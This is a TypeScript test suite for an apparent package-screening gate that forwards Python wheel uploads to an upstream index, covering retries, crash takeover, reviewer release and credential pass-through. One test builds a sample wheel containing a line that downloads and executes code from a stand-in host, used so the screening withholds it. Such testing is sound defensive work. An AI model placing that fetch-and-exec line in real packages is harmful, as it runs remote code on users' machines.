import assert from 'node:assert/strict';
import type { ServerResponse } from 'node:http';
import { after, afterEach, before, beforeEach, describe, it } from 'node:test';
import { decide } from '../../../src/actions/act.ts';
import { askForward, forwardSubmission, upstreamFetcher } from '../../../src/gate/forward-queue.ts';
import type { Gate, GateOptions } from '../../../src/gate/options.ts';
import { packFields } from '../../../src/gate/write-form.ts';
import { submit } from '../../../src/jobs/submit.ts';
import { startWorker } from '../../../src/jobs/worker.ts';
import { listAudit } from '../../../src/store/audit.ts';
import { findForward, recordForward } from '../../../src/store/forwards.ts';
import {
  basic,
  type Distribution,
  example,
  type FormPart,
  formOf,
  type ListeningGate,
  listenGate,
  partsOf,
  post,
  type RecordingIndex,
  recordingIndex,
  STRICT,
  until,
  uploaderToken,
  wheel,
} from '../../support/gate.ts';
import { openTestService, stageBytes, type TestService } from '../../support/service.ts';

const OWN = basic('of the index', 'gate');

describe('sending on', () => {
  let service: TestService;
  let stopWorker = async () => {};
  let index: RecordingIndex;
  let token: string;
  let gate: ListeningGate | null = null;

  before(async () => {
    service = await openTestService({ policy: STRICT, worker: false });
    token = await uploaderToken(service);
    index = await recordingIndex();
  });
  beforeEach(() => {
    index.seen.length = 0;
    index.behave = (_request, response) => void response.end();
  });
  afterEach(async () => {
    await gate?.close();
    gate = null;
  });
  after(async () => {
    await stopWorker();
    await service?.close();
    await index?.close();
  });

  async function open(options: Partial<GateOptions> = {}): Promise<ListeningGate> {
    gate = await listenGate(service, { upstream: index.url, ...options });
    return gate;
  }
  const upload = ({ url }: ListeningGate, parts: FormPart[], password = token) =>
    post(url, formOf(parts), basic(password));
  const stateOf = async (reference: unknown) =>
    (await findForward(service.database.db, String(reference)))?.state;
  const answering = (status: number) => (_request: unknown, response: ServerResponse) =>
    void response.writeHead(status).end();
  const fileOf = (body: Buffer) => body.subarray(body.indexOf('PK\x03\x04'));
  async function release(sha256: string): Promise<void> {
    const context = { policy: service.policy, boss: service.queue.boss };
    const dismissal = {
      sha256,
      verdictId: null,
      kind: 'dismiss',
      reasons: [],
      note: '',
      actor: 'user:1',
    } as const;
    await service.database.db.transaction((tx) => decide(tx, context, { ...dismissal, reasons: [] }));
  }
  const digestOf = (parts: FormPart[]) => String(parts.find(({ name }) => name === 'sha256_digest')!.value);

  it('waits for a verdict that is late, and happens then', async () => {
    const parts = partsOf(wheel('late', '1.0'), 'late', '1.0');
    const answer = await upload(await open({ verdictMs: 200 }), parts);
    assert.equal(answer.status, 200);
    assert.match(
      answer.line,
      /^Still being screened\. It is published if it is released; do not upload it again\. Ref/,
    );
    assert.equal(await stateOf(answer.document.reference), 'waiting');
    assert.equal(index.seen.length, 0);
    const worker = await startWorker(service, { jobs: 1 });
    stopWorker = () => worker.stop();
    await until(() => index.seen.length > 0);
    await until(async () => (await stateOf(answer.document.reference)) === 'forwarded');
    assert.equal(index.seen[0]!.authorization, OWN);
    assert.deepEqual(index.seen[0]!.body.includes(Buffer.from(wheel('late', '1.0').bytes)), true);
  });

  it('happens when a reviewer releases what was withheld, once', async () => {
    const parts = partsOf(example('nested-archive-1.0'), 'nested-archive', '1.0');
    const opened = await open();
    const answer = await upload(opened, parts);
    assert.equal(answer.document.outcome, 'withheld');
    await release(digestOf(parts));
    await until(async () => (await stateOf(answer.document.reference)) === 'forwarded');
    assert.equal(index.seen.length, 1);
    assert.equal(index.seen[0]!.authorization, OWN);
    const again = await upload(opened, parts);
    assert.equal(again.document.outcome, 'published');
  });

  it('is tried again when the index fails, until it does not', async () => {
    index.behave = answering(503);
    const answer = await upload(await open(), partsOf(wheel('retried', '1.0'), 'retried', '1.0'));
    assert.equal(answer.status, 200);
    assert.match(
      answer.line,
      /^To be published\. It is released, and published as soon as the index takes it/,
    );
    const row = await findForward(service.database.db, String(answer.document.reference));
    assert.deepEqual([row?.state, row?.status, row?.leasedUntil], ['waiting', 503, null]);
    index.behave = answering(200);
    await until(async () => (await stateOf(answer.document.reference)) === 'forwarded');
    const [first, second] = index.seen;
    assert.equal(index.seen.length, 2);
    assert.deepEqual(fileOf(second!.body).subarray(0, 500), fileOf(first!.body).subarray(0, 500));
  });

  it('has happened when the index is silent and has the file afterwards', async () => {
    index.behave = () => {};
    const opened = await open({ idleMs: 300 });
    const answer = await upload(opened, partsOf(wheel('silent', '1.0'), 'silent', '1.0'));
    assert.equal(answer.document.outcome, 'queued');
    index.behave = answering(409);
    await until(async () => (await stateOf(answer.document.reference)) === 'forwarded');
    assert.equal(index.seen.length, 2);
  });

  it('is not given up when nobody listens there', async () => {
    const other = await recordingIndex();
    await other.close();
    const answer = await upload(
      await open({ upstream: other.url }),
      partsOf(wheel('nobody', '1.0'), 'nobody', '1.0'),
    );
    assert.equal(answer.document.outcome, 'queued');
    const row = await findForward(service.database.db, String(answer.document.reference));
    assert.deepEqual([row?.state, row?.attempts, row?.status], ['waiting', 1, null]);
  });

  /** What is left when the process dies after it has taken custody: everything in the store, nobody at it. */
  async function abandoned(file: Distribution, name: string, leaseMs: number): Promise<string> {
    const staged = await stageBytes(service.vault, file.bytes);
    const fields = partsOf(file, name, '1.0').map(({ name: field, value, filename = null, type = null }) => {
      return {
        name: field,
        filename,
        contentType: type,
        value: field === 'content' ? null : Buffer.from(value),
      };
    });
    const arrival = { filename: file.filename, source: 'gate', uploader: null, url: null } as const;
    const row = await submit(
      service,
      staged,
      { ...arrival, project: name, version: '1.0' },
      async (tx, { id }) => {
        await recordForward(tx, id, packFields(fields), leaseMs);
        await askForward(service.queue.boss, tx, { submissionId: id }, new Date(Date.now() + leaseMs));
      },
    );
    await service.verdicts.wait(row.sha256, 60_000);
    return row.id;
  }

  it('is taken over from a process that died between the verdict and the index', async () => {
    const file = wheel('abandoned', '1.0');
    const id = await abandoned(file, 'abandoned', 3000);
    assert.equal(await stateOf(id), 'waiting');
    await open();
    await until(async () => (await stateOf(id)) === 'forwarded');
    const sent = index.seen.filter(({ body }) => body.includes(Buffer.from(file.bytes)));
    assert.equal(sent.length, 1);
    const [, boundary] = /boundary=(.*)$/.exec(sent[0]!.contentType)!;
    assert.deepEqual(sent[0]!.body, formOf(partsOf(file, 'abandoned', '1.0'), boundary));
  });

  it('is done by one, however many ask', async () => {
    const id = await abandoned(wheel('contested', '1.0'), 'contested', 0);
    const options = { upstream: index.url, credentials: { username: 'gate', password: 'x' } };
    const fetcher = upstreamFetcher({ ...options, passThrough: false, withheld: 'refuse' });
    const opened: Gate = {
      service,
      options: { ...options, passThrough: false, withheld: 'refuse' },
      fetcher,
    };
    const task = { submissionId: id };
    await Promise.all([1, 2, 3, 4, 5].map(() => forwardSubmission(opened, task, false)));
    await fetcher.close();
    assert.equal(await stateOf(id), 'forwarded');
    assert.equal(index.seen.length, 1);
  });

  it('never happens to what is not what it said it was', async () => {
    const lying = { filename: 'trusted-1.0-py3-none-any.whl', bytes: wheel('impostor', '3.0').bytes };
    const id = await abandoned(lying, 'trusted', 0);
    await open();
    await until(async () => (await stateOf(id)) === 'rejected');
    assert.equal(index.seen.length, 0);
  });

  describe("with the uploader's own credentials", () => {
    const passing = { passThrough: true, credentials: null };
    const both = () => `${token}:pypi-secret`;

    it('shows these to the index', async () => {
      const answer = await upload(await open(passing), partsOf(wheel('own', '1.0'), 'own', '1.0'), both());
      assert.equal(answer.status, 200);
      assert.equal(index.seen[0]!.authorization, basic('pypi-secret'));
    });

    it('asks for them when they are missing', async () => {
      const answer = await upload(await open(passing), partsOf(wheel('own', '1.1'), 'own', '1.1'));
      assert.equal(answer.status, 403);
      assert.match(
        answer.line,
        /Its credentials are missing: the password is <token of this gate>:<password of the/,
      );
      assert.equal(index.seen.length, 0);
    });

    it('tells the uploader what only the uploader can mend', async () => {
      const opened = await open(passing);
      index.behave = answering(401);
      const unknown = await upload(opened, partsOf(wheel('own', '1.2'), 'own', '1.2'), both());
      assert.equal(unknown.status, 403);
      assert.match(unknown.line, /does not know the credentials that were passed on/);
      assert.equal(await stateOf(unknown.document.reference), 'rejected');
      index.behave = answering(503);
      const down = await upload(opened, partsOf(wheel('own', '1.3'), 'own', '1.3'), both());
      assert.equal(down.status, 502);
      assert.match(
        down.line,
        /^The index is not available\. The index answered 503: .*Nothing is published; upload it again/,
      );
    });

    it('has none to show later: what was withheld has to be uploaded again', async () => {
      const lazy = wheel('lazy', '1.0', {
        code: 'import urllib.request\nexec(urllib.request.urlopen("https://code.invalid/x").read())\n',
      });
      const parts = partsOf(lazy, 'lazy', '1.0');
      const opened = await open(passing);
      const answer = await upload(opened, parts, both());
      assert.equal(answer.status, 403);
      await release(digestOf(parts));
      await until(async () => (await stateOf(answer.document.reference)) === 'failed');
      assert.equal(index.seen.length, 0);
      const row = await findForward(service.database.db, String(answer.document.reference));
      assert.match(row!.answer!, /no credentials are configured/);
      const [noted] = await listAudit(service.database.db, { subject: String(answer.document.reference) }, 1);
      assert.deepEqual([noted?.actor, noted?.action], ['gate', 'forward.failed']);
      assert.equal((await upload(opened, parts, both())).document.outcome, 'published');
    });

    it('never writes them down', async () => {
      const dump = await service.database.db.execute('select * from forwards');
      assert.equal(JSON.stringify(dump.rows).includes('pypi-secret'), false);
    });
  });
});
